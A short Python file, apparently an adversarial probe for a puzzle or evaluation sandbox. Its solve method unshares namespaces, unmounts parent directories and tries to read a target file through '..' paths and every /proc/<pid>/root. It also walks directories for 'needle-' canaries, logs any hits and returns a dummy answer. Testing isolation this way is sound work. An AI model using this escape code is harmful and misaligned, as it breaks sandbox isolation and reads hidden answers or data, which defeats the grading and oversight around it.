"""Goes after a file whose place it knows, by every way in."""

from __future__ import annotations

import contextlib
import ctypes
import os
from pathlib import Path
from typing import Any


class Attack:
    def __init__(self, target: str = "") -> None:
        self.target = Path(target)

    def solve(self, puzzle: Any, context: Any) -> Any:
        libc = ctypes.CDLL(None)
        libc.unshare(0x10000000 | 0x00020000)
        for place in self.target.parents:
            libc.umount2(str(place).encode(), 2)
        inside = str(self.target).lstrip("/")
        roots = [
            "/",
            "..",
            "../..",
            *(str(entry / "root") for entry in Path("/proc").iterdir() if entry.name.isdecimal()),
        ]
        for root in roots:
            with contextlib.suppress(OSError):
                context.log(f"found {Path(root, inside).read_text()[:200]}")
        for folder, _folders, files in os.walk(self.target.parent.parent):
            for name in files:
                with contextlib.suppress(OSError, UnicodeDecodeError):
                    text = Path(folder, name).read_text("utf-8")
                    if "needle-" in text:
                        context.log(f"found {text[text.index('needle-') :][:80]}")
        return list(range(len(puzzle)))
